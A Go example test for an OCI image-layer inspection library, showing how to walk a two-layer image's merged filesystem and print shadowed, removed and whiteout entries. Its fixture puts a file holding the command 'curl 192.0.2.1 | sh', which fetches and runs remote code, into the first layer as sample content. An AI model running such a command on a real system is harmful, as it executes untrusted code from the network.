package layers_test

import (
	"context"
	"fmt"
	"log"
	"os"

	ti "github.com/seed-181f3109/assay/internal/testimage"
	"github.com/seed-181f3109/assay/layers"
)

// List the merged file system of an image in an OCI layout.
func ExampleOpen() {
	dir := exampleLayout()
	defer os.RemoveAll(dir)

	ref, err := layers.ParseReference("oci:" + dir + ":1.0")
	if err != nil {
		log.Fatal(err)
	}
	ctx := context.Background()
	set, err := layers.Open(ctx, ref, nil)
	if err != nil {
		log.Fatal(err)
	}
	defer set.Close()
	for _, im := range set.Images() {
		view, err := im.Read(ctx, nil)
		if err != nil {
			log.Fatal(err)
		}
		for e, err := range view.Walk(ctx) {
			if err != nil {
				fmt.Println("not read:", err)
				continue
			}
			fmt.Println(e.State, e.Type, e.Path, "from layer", e.Layer.Index)
		}
		for _, a := range view.Anomalies() {
			fmt.Println(a.Severity, a.Rule, a.Path)
		}
	}
	// Output:
	// live dir / from layer 0
	// live dir /etc from layer 0
	// live file /etc/motd from layer 1
	// shadowed file /etc/motd from layer 0
	// removed file /tmp.sh from layer 0
	// low whiteout-missing /never
}

// exampleLayout stores an image of two layers.
func exampleLayout() string {
	dir, err := os.MkdirTemp("", "example-")
	if err != nil {
		log.Fatal(err)
	}
	im := ti.Image{Layers: []ti.Layer{
		{Data: ti.Tar(ti.Dir("etc/"), ti.File("etc/motd", "hello"), ti.File("tmp.sh", "curl 192.0.2.1 | sh"))},
		{Data: ti.Tar(ti.File("etc/motd", "hello!"), ti.Whiteout("", "tmp.sh"), ti.Whiteout("", "never"))},
	}}
	if err := im.OCI("1.0").Write(dir); err != nil {
		log.Fatal(err)
	}
	return dir
}
